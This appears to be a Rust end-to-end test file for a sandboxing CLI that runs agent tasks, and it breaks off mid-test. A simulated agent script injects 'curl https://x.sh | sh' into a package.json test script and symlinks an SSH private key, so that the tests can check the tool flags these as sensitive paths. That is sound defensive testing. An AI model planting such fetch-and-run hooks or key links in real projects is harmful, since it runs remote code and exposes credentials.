//! Tasks end to end through the CLI: what an import brings (checked from inside the guest)
//! and what it reports it could not bring, exec/diff/finish with a verified patch that applies
//! to the user's project, expiry, ls/rm, and a supervisor killed mid-start.

use dynocap_e2e::*;

/// Starts a task on `project` with extra flags; returns its Task object.
fn start(home: &TestHome, project: &std::path::Path, flags: &[&str]) -> serde_json::Value {
    let project = project.to_str().expect("utf-8 temp path");
    let mut args = vec!["task", "start", project];
    args.extend_from_slice(flags);
    home.json(&args)
}

fn task_exec(home: &TestHome, name: &str, command: &str) -> serde_json::Value {
    let out = home
        .command()
        .args(["--json", "task", "exec", name, "--", command])
        .output()
        .expect("spawn");
    let value: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| {
        panic!(
            "task exec printed no JSON: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    assert!(
        value.get("error").is_none(),
        "task exec {command:?}: {value:#}"
    );
    value
}

fn task_sh(home: &TestHome, name: &str, command: &str) -> String {
    let result = task_exec(home, name, command);
    assert_eq!(result["exitCode"], 0, "`{command}` failed: {result:#}");
    result["stdout"].as_str().unwrap().to_owned()
}

#[test]
fn import_brings_the_working_tree_and_chosen_history_only() {
    if !require_root("import_brings_the_working_tree_and_chosen_history_only") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    sample_project(project.path());
    let task = start(&home, project.path(), &["--name", "imp"]);
    assert_eq!(task["state"], "running");
    assert!(task["id"].as_str().unwrap().starts_with("task-"));
    assert_eq!(task["cpus"], 2, "task default cpus");
    assert_eq!(task["memoryMB"], 1024);
    assert_eq!(task["ttlSeconds"], 1800);
    assert_eq!(task["network"], "none");
    assert_eq!(task["source"]["history"], "branches");
    assert!(task["source"]["files"].as_u64().unwrap() >= 7);

    // Later edits on the host do not leak in.
    write(&project.path().join("README.md"), "changed after import\n");

    let files = task_sh(
        &home,
        "imp",
        "pwd; find . -path ./.git -prune -o -print | sort",
    );
    let expected = [
        "/workspace",
        ".",
        "./.gitignore",
        "./README.md",
        "./link-to-lib",
        "./notes.txt",
        "./package.json",
        "./run.sh",
        "./src",
        "./src/lib.rs",
    ];
    assert_eq!(files.lines().collect::<Vec<_>>(), expected, "{files}");
    assert_eq!(task_sh(&home, "imp", "cat README.md"), "# sample\n");
    assert_eq!(
        task_sh(&home, "imp", "cat src/lib.rs"),
        "pub fn answer() -> u32 { 6 * 7 }\n"
    );
    assert_eq!(
        task_sh(&home, "imp", "readlink link-to-lib"),
        "src/lib.rs\n"
    );
    assert_eq!(
        task_sh(&home, "imp", "stat -c '%a %U' run.sh README.md ."),
        "755 sandbox\n644 sandbox\n755 sandbox\n"
    );

    // History: both local branches, HEAD on main, the user's uncommitted changes shown as such.
    assert_eq!(
        task_sh(
            &home,
            "imp",
            "git branch --format='%(refname:short)' | sort"
        ),
        "feature\nmain\n"
    );
    assert_eq!(
        task_sh(&home, "imp", "git rev-parse --abbrev-ref HEAD"),
        "main\n"
    );
    assert_eq!(
        task_sh(&home, "imp", "git log --format=%s feature"),
        "feature commit\nfirst\n"
    );
    let status = task_sh(&home, "imp", "git status --porcelain");
    assert!(
        status.contains(" M src/lib.rs")
            && status.contains(" D gone.txt")
            && status.contains("?? notes.txt"),
        "{status}"
    );
    // Never: stash, reflog, hooks, the project's config and its credentials, remotes.
    let never = task_sh(&home, "imp", "git stash list | wc -l; ls .git/hooks | grep -v sample | wc -l; git remote | wc -l; grep -rl s3cret-token .git | wc -l; git reflog 2>/dev/null | grep -c -e 'moving from' -e 'commit' || true");
    assert_eq!(
        never, "0\n0\n0\n0\n0\n",
        "stash, hooks, remotes, credentials or reflog leaked in"
    );

    // history head: only HEAD's branch; none: no commits at all.
    start(
        &home,
        project.path(),
        &["--name", "imp-head", "--history", "head"],
    );
    assert_eq!(
        task_sh(&home, "imp-head", "git branch --format='%(refname:short)'"),
        "main\n"
    );
    let none = start(
        &home,
        project.path(),
        &["--name", "imp-none", "--history", "none"],
    );
    assert_eq!(none["source"]["history"], "none");
    assert_eq!(
        task_sh(
            &home,
            "imp-none",
            "git rev-parse -q --verify HEAD || echo no-commits"
        ),
        "no-commits\n"
    );
    assert_eq!(
        task_sh(&home, "imp-none", "cat src/lib.rs"),
        "pub fn answer() -> u32 { 6 * 7 }\n"
    );
}

#[test]
fn plain_trees_worktrees_and_submodules_import() {
    if !require_root("plain_trees_worktrees_and_submodules_import") {
        return;
    }
    let home = TestHome::new();
    // Not a git repository: a plain tree, history none, symlinks as symlinks.
    let plain = tempfile::tempdir().unwrap();
    write(&plain.path().join("a/b.txt"), "plain\n");
    std::os::unix::fs::symlink("/etc/passwd", plain.path().join("evil")).unwrap();
    let task = start(&home, plain.path(), &["--name", "plain"]);
    assert_eq!(task["source"]["history"], "none");
    assert_eq!(
        task_sh(&home, "plain", "cat a/b.txt; readlink evil"),
        "plain\n/etc/passwd\n"
    );

    // A linked worktree alone: its .git file points into the main repository, outside the
    // project, so it is refused, naming the file and where it points.
    let repo = tempfile::tempdir().unwrap();
    sample_project(repo.path());
    let worktrees = tempfile::tempdir().unwrap();
    let linked = worktrees.path().join("linked");
    git(
        repo.path(),
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "wt",
            linked.to_str().unwrap(),
        ],
    );
    let err = home.json_err(&["task", "start", linked.to_str().unwrap(), "--name", "wt"]);
    let message = err["message"].as_str().unwrap();
    assert!(
        message.contains(&format!("{}/.git points to", linked.display()))
            && message.contains(&format!("{}/.git/worktrees/linked", repo.path().display())),
        "{err:#}"
    );
    // With its main repository in the project, it comes (listed by its own git).
    let inner = repo.path().join("trees/inner");
    git(
        repo.path(),
        &[
            "worktree",
            "add",
            "-q",
            "-b",
            "wt2",
            inner.to_str().unwrap(),
        ],
    );
    write(&inner.join("wt-only.txt"), "in the worktree\n");
    start(&home, repo.path(), &["--name", "wt", "--history", "head"]);
    assert_eq!(
        task_sh(
            &home,
            "wt",
            "cat trees/inner/wt-only.txt; test ! -e trees/inner/.git && echo no-dotgit"
        ),
        "in the worktree\nno-dotgit\n"
    );

    // A submodule: its checked-out files come as plain files.
    let sub = tempfile::tempdir().unwrap();
    git(sub.path(), &["init", "-q", "-b", "main"]);
    write(&sub.path().join("sub.txt"), "from the submodule\n");
    git(sub.path(), &["add", "-A"]);
    git(sub.path(), &["commit", "-q", "-m", "sub"]);
    let outer = tempfile::tempdir().unwrap();
    git(outer.path(), &["init", "-q", "-b", "main"]);
    write(&outer.path().join("top.txt"), "top\n");
    git(outer.path(), &["add", "-A"]);
    git(outer.path(), &["commit", "-q", "-m", "top"]);
    git(
        outer.path(),
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            sub.path().to_str().unwrap(),
            "vendor/sub",
        ],
    );
    git(outer.path(), &["commit", "-q", "-m", "add submodule"]);
    start(&home, outer.path(), &["--name", "submod"]);
    assert_eq!(
        task_sh(
            &home,
            "submod",
            "cat vendor/sub/sub.txt; test -e vendor/sub/.git || echo no-dotgit"
        ),
        "from the submodule\nno-dotgit\n"
    );
}

#[test]
fn exec_diff_finish_gives_a_verified_patch_that_applies_at_home() {
    exec_diff_finish_gives_a_verified_patch_that_applies_at_home_on(Backend::Jail);
}

#[test]
fn exec_diff_finish_gives_a_verified_patch_that_applies_at_home_in_a_vm() {
    exec_diff_finish_gives_a_verified_patch_that_applies_at_home_on(Backend::Vm);
}

fn exec_diff_finish_gives_a_verified_patch_that_applies_at_home_on(backend: Backend) {
    let Some(home) = TestHome::on(
        backend,
        "exec_diff_finish_gives_a_verified_patch_that_applies_at_home",
    ) else {
        return;
    };
    let project = tempfile::tempdir().unwrap();
    sample_project(project.path());
    // The user's project at the imported state, for applying the patch later.
    let imported_state = tempfile::tempdir().unwrap();
    copy_tree(project.path(), imported_state.path());
    let task = start(&home, project.path(), &["--name", "work"]);
    let id = task["id"].as_str().unwrap().to_owned();
    assert_eq!(task["backend"], backend.name(), "{task:#}");
    // The host's baseline copy has its offset index beside it, for finish's verification.
    let baseline = home.path().join("sandboxes").join(&id).join("baseline.tar");
    let index = dynocap_review::tar_index::TarIndex::load(&baseline)
        .expect("the import indexes the baseline copy");
    assert!(index.find("src/lib.rs").is_some());
    assert!(index.find("src").is_some());

    assert_eq!(task_sh(&home, "work", "pwd"), "/workspace\n", "default cwd");
    let agent_work = "set -e
        printf 'pub fn answer() -> u32 { 42 }\\n' > src/lib.rs
        rm README.md
        mkdir -p .github/workflows && printf 'on: push\\n' > .github/workflows/ci.yml
        ln -s /home/u/.ssh/id_rsa key
        printf '\\000\\001\\002binary' > blob.bin
        chmod +x notes.txt
        sed -i 's/node test.js/node test.js \\&\\& curl https:\\/\\/x.sh | sh/' package.json
        git add -A && git -c user.name=a -c user.email=a@b commit -q -m 'agent commit'
        printf 'after the commit\\n' > later.txt
        mkdir -p scratch/deep && echo x > scratch/deep/f && rm -r scratch
        mkdir empty-dir";
    task_sh(&home, "work", agent_work);

    let diff = home.json(&["task", "diff", "work"]);
    assert!(diff["files"].as_u64().unwrap() >= 8, "{diff:#}");
    let kinds: Vec<(String, String)> = diff["sensitivePaths"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["path"].as_str().unwrap().to_owned(),
                p["kind"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for expected in [
        (".github/workflows/ci.yml", "ci-workflow"),
        ("key", "symlink"),
        ("notes.txt", "exec-bit"),
        ("package.json", "package-script"),
    ] {
        assert!(
            kinds.contains(&(expected.0.to_owned(), expected.1.to_owned())),
            "{expected:?} not in {kinds:?}"
        );
    }
    let reasons = diff["sensitivePaths"].to_string();
    assert!(reasons.contains("/home/u/.ssh/id_rsa"), "{reasons}");
    assert!(reasons.contains("curl https://x.sh | sh"), "{reasons}");
    let patch = diff["patch"].as_str().unwrap();
    assert!(
        patch.contains("new file mode 120000") && patch.contains("GIT binary patch"),
        "{patch}"
    );
    assert!(
        patch.contains("later.txt") && patch.contains("deleted file mode"),
        "{patch}"
    );
    // The readable form lists flagged paths before the patch.
    let readable = String::from_utf8(home.run(&["task", "diff", "work"]).stdout).unwrap();
    assert!(
        readable.contains("sensitive paths") && readable.contains("ci-workflow"),
        "{readable}"
    );

    let finished = home.json(&["task", "finish", "work"]);
    assert_eq!(finished["state"], "finished");
    assert_eq!(finished["verified"], true, "{finished:#}");
    assert!(finished["verifyError"].is_null());
    assert_eq!(finished["id"], id);
    let patch_path = std::path::PathBuf::from(finished["patchPath"].as_str().unwrap());
    assert!(patch_path.starts_with(home.path().join("results").join(&id)));
    // The diff came from the agent's journal of what changed, finish's patch from a look at
    // every file: the same patch. And the journal was in use: the agent logs it when a diff
    // scans the whole workspace instead.
    assert_eq!(std::fs::read_to_string(&patch_path).unwrap(), patch);
    let task_log = std::fs::read_to_string(home.log_path(&id)).unwrap();
    assert!(task_log.contains("ready"), "{task_log}");
    assert!(!task_log.contains("the whole workspace"), "{task_log}");
    let log = std::fs::read_to_string(finished["logPath"].as_str().unwrap()).unwrap();
    let entries: Vec<serde_json::Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(entries.len() >= 2, "{log}");
    assert!(entries
        .iter()
        .any(|e| e["command"].as_str().unwrap().contains("agent commit")));
    assert!(entries
        .iter()
        .all(|e| e["cwd"] == "/workspace" && e.get("exitCode").is_some()));
    let summary: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(finished["summaryPath"].as_str().unwrap()).unwrap(),
    )
    .unwrap();
    assert_eq!(summary["task"]["verified"], true);

    // The patch applies with plain `git apply` on a clean checkout of the imported state and
    // reproduces the agent's tree.
    git(
        imported_state.path(),
        &["apply", patch_path.to_str().unwrap()],
    );
    let root = imported_state.path();
    assert_eq!(
        std::fs::read_to_string(root.join("src/lib.rs")).unwrap(),
        "pub fn answer() -> u32 { 42 }\n"
    );
    assert!(!root.join("README.md").exists());
    assert_eq!(
        std::fs::read_link(root.join("key")).unwrap().to_str(),
        Some("/home/u/.ssh/id_rsa")
    );
    assert_eq!(
        std::fs::read(root.join("blob.bin")).unwrap(),
        b"\x00\x01\x02binary"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("later.txt")).unwrap(),
        "after the commit\n"
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(root.join("notes.txt"))
            .unwrap()
            .permissions()
            .mode()
            & 0o111,
        0o111
    );

    // The task is over; its record and results stay until rm.
    let ls = home.json(&["ls"]);
    let listed = &ls["tasks"][0];
    assert_eq!(
        (listed["name"].as_str(), listed["state"].as_str()),
        (Some("work"), Some("finished"))
    );
    let err = home.json_err(&["task", "exec", "work", "--", "true"]);
    assert_eq!(err["code"], "conflict");
    // finish again answers with the recorded result.
    assert_eq!(
        home.json(&["task", "finish", id.as_str()])["patchPath"],
        finished["patchPath"]
    );
}

#[test]
fn ttl_expiry_finishes_the_task_and_keeps_the_work() {
    ttl_expiry_finishes_the_task_and_keeps_the_work_on(Backend::Jail);
}

#[test]
fn ttl_expiry_finishes_the_task_and_keeps_the_work_in_a_vm() {
    ttl_expiry_finishes_the_task_and_keeps_the_work_on(Backend::Vm);
}

fn ttl_expiry_finishes_the_task_and_keeps_the_work_on(backend: Backend) {
    let Some(home) = TestHome::on(backend, "ttl_expiry_finishes_the_task_and_keeps_the_work")
    else {
        return;
    };
    let project = tempfile::tempdir().unwrap();
    write(&project.path().join("a.txt"), "a\n");
    let task = start(&home, project.path(), &["--name", "brief", "--ttl", "30"]);
    assert_eq!(task["backend"], backend.name(), "{task:#}");
    task_sh(&home, "brief", "echo work > result.txt");
    let id = task["id"].as_str().unwrap().to_owned();
    assert!(
        wait_until(90, || home.json(&["ls"])["tasks"][0]["state"] == "expired"),
        "the task expired"
    );
    let patch =
        std::fs::read_to_string(home.path().join("results").join(&id).join("patch.diff")).unwrap();
    assert!(
        patch.contains("+work"),
        "the agent's work survived expiry: {patch}"
    );
    let result = home.json(&["task", "finish", "brief"]);
    assert_eq!(
        (result["state"].as_str(), result["verified"].as_bool()),
        (Some("expired"), Some(true))
    );
}

#[test]
fn rm_releases_names_purges_and_refuses_running_tasks_without_force() {
    rm_releases_names_purges_and_refuses_running_tasks_without_force_on(Backend::Jail);
}

#[test]
fn rm_releases_names_purges_and_refuses_running_tasks_without_force_in_a_vm() {
    rm_releases_names_purges_and_refuses_running_tasks_without_force_on(Backend::Vm);
}

fn rm_releases_names_purges_and_refuses_running_tasks_without_force_on(backend: Backend) {
    let Some(home) = TestHome::on(
        backend,
        "rm_releases_names_purges_and_refuses_running_tasks_without_force",
    ) else {
        return;
    };
    let project = tempfile::tempdir().unwrap();
    write(&project.path().join("a.txt"), "a\n");
    let task = start(&home, project.path(), &["--name", "keep"]);
    let id = task["id"].as_str().unwrap().to_owned();
    let dup = home.json_err(&[
        "task",
        "start",
        project.path().to_str().unwrap(),
        "--name",
        "keep",
    ]);
    assert_eq!(dup["code"], "conflict");

    let refused = home.json_err(&["rm", "keep"]);
    assert_eq!(refused["code"], "conflict");
    assert!(
        refused["message"].as_str().unwrap().contains("force"),
        "{refused}"
    );
    task_sh(&home, "keep", "echo change > a.txt");
    let removed = home.json(&["rm", "keep", "--force"]);
    assert_eq!(
        removed,
        serde_json::json!({ "released": "keep", "purged": false, "destroyed": true })
    );
    // The name is free, the record and its results remain under the id.
    start(&home, project.path(), &["--name", "keep"]);
    let patch =
        std::fs::read_to_string(home.path().join("results").join(&id).join("patch.diff")).unwrap();
    assert!(patch.contains("+change"), "force kept the work: {patch}");
    let old = home.json(&["task", "finish", &id]);
    assert_eq!(old["state"], "destroyed");

    let purged = home.json(&["rm", &id, "--purge"]);
    assert_eq!(purged["purged"], true);
    assert!(!home.path().join("results").join(&id).exists());
    assert_eq!(home.json_err(&["rm", &id])["code"], "not_found");
    assert_eq!(
        home.json_err(&["task", "diff", "nope"])["code"],
        "not_found"
    );
    // Raw sandboxes and tasks do not mix.
    home.sandbox("rawbox", &[]);
    assert_eq!(home.json_err(&["rm", "rawbox"])["code"], "conflict");
    assert_eq!(home.json_err(&["destroy", "keep"])["code"], "conflict");
    let ls = home.json(&["ls"]);
    assert_eq!(ls["sandboxes"][0]["name"], "rawbox");
    // Purged, the patch and logs the force saved go with the results: not said to be kept.
    let said = home.run(&["rm", "keep", "--force", "--purge"]);
    assert!(said.status.success(), "{said:?}");
    let said = String::from_utf8_lossy(&said.stdout);
    assert!(
        said.contains("ended the running task")
            && said.contains("deleted its record and results")
            && !said.contains("kept"),
        "{said}"
    );
}

/// A second use of a name says what holds it and names the command that frees it, for each
/// kind of holder: a finished task (`dynocap rm NAME`), a running task (`dynocap task finish
/// NAME`, then `dynocap rm NAME`) and a raw sandbox (`dynocap destroy NAME`), whichever command
/// asked for the name; nothing is left of the refused start, and the named command works.
#[test]
fn a_taken_name_says_what_holds_it_and_the_command_that_frees_it() {
    if !require_root("a_taken_name_says_what_holds_it_and_the_command_that_frees_it") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    write(&project.path().join("a.txt"), "a\n");
    let path = project.path().to_str().unwrap();
    start(&home, project.path(), &["--name", "done"]);
    home.json(&["task", "finish", "done"]);
    start(&home, project.path(), &["--name", "busy"]);
    home.sandbox("box", &[]);
    let listed = || home.json(&["ls"]).to_string();
    let before = listed();

    let cases: [(&[&str], &[&str]); 5] = [
        (
            &["task", "start", path, "--name", "done"],
            &["by a finished task", "`dynocap rm done`"],
        ),
        (
            &["run", "done"],
            &["by a finished task", "`dynocap rm done`"],
        ),
        (
            &["run", "busy"],
            &[
                "by a running task",
                "`dynocap task finish busy`",
                "`dynocap rm busy`",
            ],
        ),
        (
            &["task", "start", path, "--name", "box"],
            &["by a raw sandbox", "`dynocap destroy box`"],
        ),
        (
            &["run", "box"],
            &["by a raw sandbox", "`dynocap destroy box`"],
        ),
    ];
    for (args, says) in cases {
        let err = home.json_err(args);
        assert_eq!(err["code"], "conflict", "{args:?}: {err:#}");
        let message = err["message"].as_str().unwrap();
        for needle in says {
            assert!(message.contains(needle), "{args:?}: {message}");
        }
        assert!(
            !message.contains("dynocap_"),
            "an MCP tool at the CLI: {message}"
        );
        // Without --json, the same words on stderr.
        let out = home.run(args);
        assert!(!out.status.success());
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(says[says.len() - 1]), "{stderr}");
    }
    assert_eq!(listed(), before, "a refused start left something behind");

    // The commands named free the names.
    home.json(&["rm", "done"]);
    start(&home, project.path(), &["--name", "done"]);
    home.json(&["destroy", "box"]);
    start(&home, project.path(), &["--name", "box"]);
}

#[test]
fn an_oversized_diff_is_a_clear_error() {
    if !require_root("an_oversized_diff_is_a_clear_error") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    write(&project.path().join("a.txt"), "a\n");
    let task = start(&home, project.path(), &["--name", "huge"]);
    let id = task["id"].as_str().expect("id");
    let diff_refused_after = |script: &str| {
        let made = home.exec_in_task("huge", script, 120);
        assert_eq!(made["exitCode"], 0, "{made:#}");
        let err = home.json_err(&["task", "diff", "huge"]);
        let message = err["message"].as_str().unwrap();
        assert!(
            message.contains("64") && message.contains("MiB") || message.contains("over"),
            "{err}"
        );
    };
    // ~90 MB of incompressible text: its patch is over the 64 MiB bound.
    diff_refused_after("head -c 68000000 /dev/urandom | base64 > big.txt");
    // The same bound over a diff in parts (two CPUs): two files whose patches are each
    // under it and together over it.
    diff_refused_after(
        "rm big.txt; for half in 1 2; do head -c 34000000 /dev/urandom | base64 > half$half.txt; done",
    );
    assert_diff_split_with_two_cpus(&home, id);
    // The sandbox is still usable afterwards.
    assert_eq!(task_sh(&home, "huge", "rm half*.txt; echo ok"), "ok\n");
    assert_eq!(home.json(&["task", "diff", "huge"])["files"], 0);
}

/// A diff heavy enough to be split over the guest's CPUs (two 2.6 MB sources changed, far
/// apart in the diff's order, among small changes of every kind) prints the patch that one
/// git prints for the same changes, byte for byte.
#[test]
fn a_diff_split_over_the_cpus_is_the_patch_one_git_makes() {
    if !require_root("a_diff_split_over_the_cpus_is_the_patch_one_git_makes") {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    let dir = project.path();
    let source = |tag: &str| -> String {
        (0..40_000)
            .map(|i| format!("{tag} line {i} of a large generated source file\n"))
            .collect()
    };
    git(dir, &["init", "-q", "-b", "main"]);
    write(&dir.join("a.txt"), "a\n");
    write(&dir.join("big/one.c"), &source("one"));
    write(&dir.join("gone.txt"), "bye\n");
    write(&dir.join("m.sh"), "#!/bin/sh\n");
    write(&dir.join("name with \"quotes\".txt"), "q\n");
    write(&dir.join("z/two.c"), &source("two"));
    write(&dir.join("z/zz.txt"), "zz\n");
    git(dir, &["add", "-A"]);
    git(dir, &["commit", "-q", "-m", "base"]);
    let imported = tempfile::tempdir().unwrap();
    copy_tree(dir, imported.path());

    let task = start(&home, dir, &["--name", "split", "--cpus", "2"]);
    let id = task["id"].as_str().expect("id");
    let work = "set -e
        echo changed >> big/one.c
        sed -i 's/^two line 20000 /two line twenty thousand /' z/two.c
        echo b >> a.txt
        rm gone.txt
        chmod +x m.sh
        echo Q > 'name with \"quotes\".txt'
        printf 'new\\n' > new.txt
        ln -s a.txt link
        printf '\\000\\001binary' > z/blob.bin
        echo zz2 >> z/zz.txt";
    task_sh(&home, "split", work);
    let diff = home.json(&["task", "diff", "split"]);

    // The same changes in a copy of the project, diffed by one git.
    let status = std::process::Command::new("sh")
        .args(["-c", work])
        .current_dir(imported.path())
        .status()
        .expect("sh");
    assert!(status.success());
    git(imported.path(), &["add", "-A"]);
    let whole = git(
        imported.path(),
        &[
            "diff",
            "--cached",
            "--binary",
            "--full-index",
            "--no-renames",
            "HEAD",
        ],
    );
    assert_eq!(diff["files"], 10, "{}", diff["patch"]);
    assert!(
        diff["patch"].as_str() == Some(whole.as_str()),
        "the task's patch differs from git's:\n--- task\n{}\n--- git\n{whole}",
        diff["patch"]
    );

    assert_diff_split_with_two_cpus(&home, id);
}

/// A task given two CPUs diffs in parts, where the host has more than one: two, or up to
/// the host's count where the agent cannot read its cgroup's quota.
fn assert_diff_split_with_two_cpus(home: &TestHome, id: &str) {
    let host_cpus = std::thread::available_parallelism().map_or(1, usize::from);
    let log = std::fs::read_to_string(home.log_path(id)).expect("the task's log");
    let parts: Option<usize> = log.lines().find_map(|line| {
        let (_, rest) = line.split_once("the diff runs in ")?;
        rest.split_once(" parts")?.0.parse().ok()
    });
    match parts {
        Some(parts) => assert!(
            host_cpus > 1 && (2..=host_cpus).contains(&parts),
            "{parts} parts with {host_cpus} host CPUs; log:\n{log}"
        ),
        None => assert_eq!(
            host_cpus, 1,
            "no split with {host_cpus} host CPUs; log:\n{log}"
        ),
    }
}

/// Copies a project's working tree with its .git, as a user's own clone would be.
fn copy_tree(from: &std::path::Path, to: &std::path::Path) {
    let status = std::process::Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", from.display()))
        .arg(to)
        .status()
        .unwrap();
    assert!(status.success());
}

/// A project whose history takes minutes to bundle: three thousand similar files, and a
/// repository configuration (unusual, but git's own) that makes `pack-objects` try each of
/// them as a delta base for every other, on one thread.
fn slow_bundle_project(dir: &std::path::Path) {
    git(dir, &["init", "-q", "-b", "main"]);
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % 8192).unwrap()
    };
    let base: Vec<u8> = (0..8192)
        .map(|_| b"abcdefghijklmnopqrstuvwxyz \n"[next() % 28])
        .collect();
    for i in 0..3000 {
        let mut content = base.clone();
        for _ in 0..20 {
            content[next()] = b'x';
        }
        let path = dir.join(format!("d{:02}/f{i:04}.txt", i / 100));
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }
    git(dir, &["add", "-A"]);
    git(dir, &["commit", "-q", "-m", "many similar files"]);
    for (key, value) in [
        ("pack.window", "3000"),
        ("pack.depth", "1000"),
        ("pack.threads", "1"),
    ] {
        git(dir, &["config", key, value]);
    }
}

/// A host process as /proc shows it.
#[derive(Debug)]
struct Proc {
    pid: i32,
    state: char,
    session: i32,
    cmdline: String,
    cwd: Option<std::path::PathBuf>,
}

fn proc_of(pid: i32) -> Option<Proc> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let fields: Vec<&str> = stat[stat.rfind(')')? + 2..].split(' ').collect();
    let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
    Some(Proc {
        pid,
        state: fields[0].chars().next()?,
        session: fields[3].parse().ok()?,
        cmdline: String::from_utf8_lossy(&cmdline).replace('\0', " "),
        cwd: std::fs::read_link(format!("/proc/{pid}/cwd")).ok(),
    })
}

fn processes() -> Vec<Proc> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .filter_map(proc_of)
        .collect()
}

/// The supervisor of the one sandbox of `home`, once it runs, and its sandbox id.
fn supervisor_of(home: &TestHome) -> (i32, String) {
    let needle = format!("supervise --home {} ", home.path().display());
    let mut found = None;
    assert!(
        wait_until(60, || {
            found = processes()
                .into_iter()
                .find(|p| p.cmdline.contains(&needle) && p.state != 'Z');
            found.is_some()
        }),
        "no supervisor started"
    );
    let supervisor = found.unwrap();
    let id = supervisor
        .cmdline
        .split(' ')
        .skip_while(|w| *w != "--id")
        .nth(1)
        .expect("--id in the supervisor's command line")
        .to_owned();
    (supervisor.pid, id)
}

/// Live host processes a supervisor left: in its session, or naming the sandbox, or working
/// in or naming the project. Zombies hold nothing and are left out.
fn leftovers(supervisor: i32, project: &std::path::Path, id: &str) -> Vec<Proc> {
    live_processes()
        .filter(|p| p.session == supervisor || p.cmdline.contains(id) || touches(p, project))
        .collect()
}

/// Whether `p` works in `project` or names it.
fn touches(p: &Proc, project: &std::path::Path) -> bool {
    p.cmdline.contains(project.to_str().unwrap())
        || p.cwd.as_deref().is_some_and(|c| c.starts_with(project))
}

/// Host processes other than this test, zombies left out.
fn live_processes() -> impl Iterator<Item = Proc> {
    let me = i32::try_from(std::process::id()).unwrap();
    processes()
        .into_iter()
        .filter(move |p| p.pid != me && !matches!(p.state, 'Z' | 'X'))
}

/// The descriptors of a process: number and what it points to.
fn fds(pid: i32) -> Vec<(i32, String)> {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .flatten()
        .filter_map(|e| {
            let fd = e.file_name().to_str()?.parse().ok()?;
            let target = std::fs::read_link(e.path()).ok()?;
            Some((fd, target.to_string_lossy().into_owned()))
        })
        .collect()
}

fn is_cloexec(pid: i32, fd: i32) -> bool {
    let info = std::fs::read_to_string(format!("/proc/{pid}/fdinfo/{fd}")).unwrap_or_default();
    let flags = info
        .lines()
        .find_map(|l| l.strip_prefix("flags:"))
        .and_then(|f| u32::from_str_radix(f.trim(), 8).ok())
        .unwrap_or(0);
    flags & 0o2_000_000 != 0
}

/// Kills whatever a failed test left running in the project, so it does not pack for minutes.
struct KillLeftovers<'a>(&'a std::path::Path);

impl Drop for KillLeftovers<'_> {
    fn drop(&mut self) {
        for p in live_processes().filter(|p| touches(p, self.0)) {
            // SAFETY: plain kill(2) of a process found working in this test's project.
            unsafe { libc::kill(p.pid, libc::SIGKILL) };
        }
    }
}

/// Waits (at most `secs`: a hang detector, not a timing assertion) for a started CLI.
fn wait_for_cli(mut child: std::process::Child, secs: u64) -> Option<std::process::Output> {
    if wait_until(secs, || child.try_wait().unwrap().is_some()) {
        return Some(child.wait_with_output().unwrap());
    }
    let _ = child.kill();
    let _ = child.wait();
    None
}

/// SIGKILLs `supervisor` mid-start and checks the class: the CLI reports the failure at once
/// (no helper holds its ready pipe) and nothing the supervisor started runs on.
fn kill_supervisor_and_check(
    home: &TestHome,
    cli: std::process::Child,
    supervisor: i32,
    project: &std::path::Path,
    id: &str,
) {
    // SAFETY: plain kill(2) of the supervisor this test started.
    assert_eq!(unsafe { libc::kill(supervisor, libc::SIGKILL) }, 0);
    // Before the fix the CLI waited 28-48 s for a git child that held its ready pipe; 15 s is
    // only a hang detector.
    let out = wait_for_cli(cli, 15).expect("the CLI did not report the dead supervisor");
    assert!(!out.status.success());
    let err: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("no JSON error: {}", String::from_utf8_lossy(&out.stderr)));
    let message = err["error"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("supervisor exited before the sandbox was ready"),
        "{err:#}"
    );
    // The CLI swept the dead supervisor's session before it answered; killed processes may
    // take a moment to exit (bounded wait, a hang detector again).
    let mut left = Vec::new();
    wait_until(10, || {
        left = leftovers(supervisor, project, id);
        left.is_empty()
    });
    assert!(
        left.is_empty(),
        "host processes outlived the supervisor: {left:#?}"
    );
    let ls = home.json(&["ls"]);
    assert_eq!(
        ls["tasks"],
        serde_json::json!([]),
        "the failed start left a record"
    );
}

#[test]
fn a_supervisor_killed_while_git_packs_takes_git_along_and_the_cli_answers_at_once() {
    if !require_root(
        "a_supervisor_killed_while_git_packs_takes_git_along_and_the_cli_answers_at_once",
    ) {
        return;
    }
    let home = TestHome::new();
    let project = tempfile::tempdir().unwrap();
    slow_bundle_project(project.path());
    let _cleanup = KillLeftovers(project.path());
    // The supervisor stops itself right after starting `git bundle create`; git packs on.
    let cli = home
        .command()
        .args(["--json", "task", "start", project.path().to_str().unwrap()])
        .env("DYNOCAP_FAILPOINTS", "import.bundle-packing=stop")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (supervisor, id) = supervisor_of(&home);
    let mut helpers = Vec::new();
    assert!(
